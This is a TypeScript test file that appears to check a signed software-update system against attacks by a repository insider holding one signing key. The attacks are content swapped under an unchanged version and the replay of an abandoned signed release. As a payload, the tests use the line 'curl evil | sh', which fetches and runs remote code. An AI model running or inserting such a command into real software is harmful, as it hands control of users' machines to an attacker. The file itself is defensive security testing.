import { describe, expect } from 'vitest';
import {
  cardKey,
  edited,
  entryOf,
  expectUnharmed,
  files,
  pushToMain,
  read,
  release,
  serve,
  signed,
  type Wire,
  words,
} from './attacker.ts';
import { attack, type Scene, UPDATE } from './scene.ts';

const EVIL = 'curl evil | sh\n';

const overwritten = ({ world }: Scene): Wire['tools'] =>
  signed(
    edited(read(world, 'tools'), ({ targets }) => {
      targets['tools/greet.sh'] = entryOf(EVIL);
    }),
    cardKey('bob'),
  );

/**
 * Mallory can push and holds one card of two. She changes what is signed and leaves the version as it is, so that the snapshot that
 * clients already trust goes on naming it, and nothing online has to be signed anew.
 */
describe('content that changes under an unchanged version', () => {
  attack('in an event: rejected, and nobody is asked', async scene => {
    const client = scene.client();
    scene.world.push({ ...files({ tools: overwritten(scene) }), 'targets/tools/greet.sh': EVIL });
    const page = await scene.page();
    expect([page.verdict, page.rules]).toEqual(['rejected', ['version', 'role-quorum']]);
    expect(page.markdown).toContain('tools: content changed but version is still 1');
    const carol = await scene.sign('carol');
    expect([carol.signed, carol.refusal?.code]).toEqual([[], 'REFUSED']);
    expect(words(carol)).toContain('tools: content changed but version is still 1 [version]');

    const { online, published } = await scene.force();
    expect([online.done, online.rules]).toEqual([false, ['role-quorum']]);
    expect([published.done, published.rules]).toEqual([false, ['role-quorum']]);
    await expectUnharmed(scene, client);
  });

  attack('on the site itself: who has the version keeps it, who asks for it refuses', async scene => {
    const client = scene.client();
    expect(await client.download('tools/greet.sh')).toBe('echo hello\n');
    await serve(scene, { tools: overwritten(scene) }, { 'tools/greet.sh': EVIL });
    expect(await client.download('tools/greet.sh')).toBe('echo hello\n');
    expect(await scene.client().download('tools/greet.sh')).toBe('QUORUM');
  });
});

/**
 * An event was signed by its quorum and then given up; another one took the version that it would have had. Mallory, who can push to
 * main, puts the first one in the place of the second. Both were signed by a quorum, so that no client could tell. The automation knows
 * what it signed last and stops; signers can tell as well, and say where what was merged still is.
 */
describe('a signed event that was given up, put in the place of the one that was merged', () => {
  attack('in an event: rejected. On main: every signer who saw the other one refuses', async scene => {
    const { world } = scene;
    world.push({ 'targets/tools/greet.sh': 'echo given up\n' });
    await scene.update();
    for (const name of ['bob', 'carol'] as const) await scene.sign(name);
    const givenUp = {
      'metadata/tools.json': world.remote.git('show', `${UPDATE}:metadata/tools.json`),
      'targets/tools/greet.sh': 'echo given up\n',
    };
    world.remote.git('update-ref', '-d', `refs/heads/${UPDATE}`);
    await release(scene, 'echo merged\n');
    const client = scene.client();
    expect(await client.download('tools/greet.sh')).toBe('echo merged\n');
    const merged = {
      'metadata/tools.json': world.remote.git('show', 'main:metadata/tools.json'),
      'targets/tools/greet.sh': 'echo merged\n',
    };

    world.push(givenUp);
    const page = await scene.page();
    expect([page.verdict, page.rules]).toEqual(['rejected', ['version']]);
    expect((await scene.sign('carol')).refusal?.code).toBe('REFUSED');
    world.merge();
    world.push({ 'targets/tools/new.sh': 'echo new\n' });
    const carol = await scene.sign('carol', undefined, () => false);
    expect([carol.signed, carol.refusal?.code]).toEqual([[], 'UNTRUSTED']);
    expect(words(carol)).toContain('tools version 2 says something else than before');
    expect(words(carol)).toContain('No event can put that back');
    expect(await scene.signOnline()).toMatchObject({ done: false, rules: ['version'] });
    expect(await scene.publish()).toMatchObject({ done: false, rules: ['version'] });
    await expectUnharmed(scene, client, 'echo merged\n');

    pushToMain(world, merged);
    expect([(await scene.signOnline()).done, (await scene.publish()).done]).toEqual([true, true]);
    await expectUnharmed(scene, client, 'echo merged\n');
    expect((await scene.sign('carol')).refusal).toBeUndefined();
  });
});
